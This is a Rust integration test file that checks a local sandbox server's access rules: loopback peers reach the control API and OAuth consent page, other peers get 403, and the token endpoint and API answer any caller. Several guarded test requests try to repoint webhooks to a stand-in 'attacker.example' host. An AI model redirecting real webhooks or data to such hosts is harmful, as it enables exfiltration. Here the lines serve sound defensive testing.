//! Who may reach the sandbox: the consent page and the control API answer
//! loopback callers only, while the token endpoint and the API answer anyone
//! with credentials. Other peers cannot be had on a test machine, so those
//! calls go through the real router in-process with a chosen `ConnectInfo`.

use crate::support as sandbox_support;

use std::net::{Ipv6Addr, SocketAddr};

use axum::body::Body;
use axum::extract::ConnectInfo;
use axum::http::{Method, Request, StatusCode};
use serde_json::{json, Value};
use switchboard_sandbox::Sandbox;
use tower::ServiceExt;

use sandbox_support::*;

const CLIENT_ID: &str = "sandbox-client-id";

fn stranger() -> SocketAddr {
    SocketAddr::from(([203, 0, 113, 7], 40_000))
}

fn local() -> SocketAddr {
    SocketAddr::from(([127, 0, 0, 1], 40_000))
}

/// Sends `request` through the sandbox's router as if it came from `peer`;
/// `None` is a server run without connect info.
async fn call_from(
    sandbox: &Sandbox,
    peer: Option<SocketAddr>,
    mut request: Request<Body>,
) -> (StatusCode, Value) {
    if let Some(peer) = peer {
        request.extensions_mut().insert(ConnectInfo(peer));
    }
    let response = sandbox.router().oneshot(request).await.unwrap();
    let status = response.status();
    let bytes = axum::body::to_bytes(response.into_body(), usize::MAX)
        .await
        .unwrap();
    (
        status,
        serde_json::from_slice(&bytes).unwrap_or(Value::Null),
    )
}

fn get(uri: &str) -> Request<Body> {
    Request::get(uri).body(Body::empty()).unwrap()
}

fn with_json(method: Method, uri: &str, body: Value) -> Request<Body> {
    Request::builder()
        .method(method)
        .uri(uri)
        .header("content-type", "application/json")
        .body(Body::from(body.to_string()))
        .unwrap()
}

fn with_form(uri: &str, fields: &[(&str, &str)]) -> Request<Body> {
    Request::post(uri)
        .header("content-type", "application/x-www-form-urlencoded")
        .body(Body::from(serde_urlencoded::to_string(fields).unwrap()))
        .unwrap()
}

fn consent_query(path: &str) -> String {
    let query = [
        ("client_id", CLIENT_ID),
        ("redirect_uri", CALLBACK),
        ("scope", "contacts.readonly"),
    ];
    format!("{path}?{}", serde_urlencoded::to_string(query).unwrap())
}

/// The calls a stranger must not make: every kind of control call and both
/// steps of consent.
fn guarded_requests(location_id: &str) -> Vec<Request<Body>> {
    vec![
        get("/_sandbox/locations"),
        get("/_sandbox/stats"),
        with_json(
            Method::POST,
            "/_sandbox/tokens",
            json!({"locationId": location_id, "scopes": ["contacts.write"]}),
        ),
        with_json(
            Method::PUT,
            "/_sandbox/webhook-url",
            json!({"url": "http://attacker.example/hook"}),
        ),
        with_json(
            Method::POST,
            "/_sandbox/simulate",
            json!({"entity": "contacts", "action": "delete", "count": 5}),
        ),
        Request::delete("/_sandbox/ledger")
            .body(Body::empty())
            .unwrap(),
        with_json(
            Method::POST,
            "/_sandbox/apps/clubworx/send",
            json!({"url": "http://attacker.example/hook"}),
        ),
        with_json(Method::POST, "/_sandbox/apps/clubworx/inbox", json!({})),
        get("/_sandbox/apps/clubworx/inbox"),
        get("/_sandbox/apps/clubworx"),
        get(&consent_query("/oauth/chooselocation")),
        get(&consent_query("/v2/oauth/chooselocation")),
        with_form(
            "/oauth/chooselocation",
            &[
                ("client_id", CLIENT_ID),
                ("redirect_uri", CALLBACK),
                ("scope", "contacts.readonly"),
                ("location_id", location_id),
            ],
        ),
    ]
}

#[tokio::test]
async fn loopback_callers_reach_the_control_api_and_the_consent_page() {
    let api = start().await;
    let (status, locations) = api.control(Method::GET, "/_sandbox/locations", None).await;
    assert_eq!(status, 200, "{locations}");
    let page = api
        .client
        .get(api.url(&consent_query("/oauth/chooselocation")))
        .send()
        .await
        .unwrap();
    assert_eq!(page.status(), 200);
}

#[tokio::test]
async fn every_loopback_form_of_the_peer_is_let_in() {
    let sandbox = Sandbox::new(test_config());
    let peers = [
        local(),
        SocketAddr::from(([127, 8, 9, 10], 1)),
        SocketAddr::from((Ipv6Addr::LOCALHOST, 1)),
        SocketAddr::from((Ipv6Addr::new(0, 0, 0, 0, 0, 0xffff, 0x7f00, 1), 1)),
    ];
    for peer in peers {
        let (status, _) = call_from(&sandbox, Some(peer), get("/_sandbox/locations")).await;
        assert_eq!(status, 200, "{peer} is this machine");
    }
}

#[tokio::test]
async fn other_callers_are_refused_the_control_api_and_the_consent_page() {
    let sandbox = Sandbox::new(test_config());
    let (location_id, _) = sandbox.locations()[0].clone();
    let (_, stats_before) = call_from(&sandbox, Some(local()), get("/_sandbox/stats")).await;
    let peers = [
        stranger(),
        SocketAddr::from(([10, 0, 0, 1], 1)),
        SocketAddr::from((Ipv6Addr::new(0x2001, 0xdb8, 0, 0, 0, 0, 0, 1), 1)),
        SocketAddr::from((Ipv6Addr::new(0, 0, 0, 0, 0, 0xffff, 0xcb00, 0x7107), 1)),
    ];
    for peer in peers {
        for request in guarded_requests(&location_id) {
            let what = format!("{} {} from {peer}", request.method(), request.uri());
            let (status, body) = call_from(&sandbox, Some(peer), request).await;
            assert_eq!(status, 403, "{what}");
            assert_eq!(body["error"], "Forbidden", "{what}");
            assert!(body["message"].is_string(), "{what}: {body}");
        }
    }
    let (_, stats_after) = call_from(&sandbox, Some(local()), get("/_sandbox/stats")).await;
    assert_eq!(
        stats_after, stats_before,
        "no refused call changed anything"
    );
}

#[tokio::test]
async fn a_request_without_connect_info_is_refused() {
    let sandbox = Sandbox::new(test_config());
    let (location_id, _) = sandbox.locations()[0].clone();
    for request in guarded_requests(&location_id) {
        let what = format!("{} {}", request.method(), request.uri());
        let (status, body) = call_from(&sandbox, None, request).await;
        assert_eq!(status, 403, "{what}");
        let message = body["message"].as_str().unwrap_or_default();
        assert!(message.contains("connect info"), "{what}: {body}");
    }
}

#[tokio::test]
async fn the_token_endpoint_and_the_api_answer_any_caller() {
    let sandbox = Sandbox::new(test_config());
    let (location_id, _) = sandbox.locations()[0].clone();
    let token_request = with_form(
        "/oauth/token",
        &[
            ("client_id", CLIENT_ID),
            ("client_secret", "sandbox-client-secret"),
            ("grant_type", "authorization_code"),
            ("code", "no-such-code"),
        ],
    );
    let (status, body) = call_from(&sandbox, Some(stranger()), token_request).await;
    assert_eq!(status, 400, "{body}");
    assert_eq!(body["error"], "invalid_grant");

    let token = sandbox
        .mint_token(&location_id, &["contacts.readonly".to_owned()])
        .unwrap();
    let contacts = Request::get(format!("/contacts/?locationId={location_id}"))
        .header("authorization", format!("Bearer {token}"))
        .header("version", V_CONTACTS)
        .body(Body::empty())
        .unwrap();
    let (status, body) = call_from(&sandbox, Some(stranger()), contacts).await;
    assert_eq!(status, 200, "{body}");
}
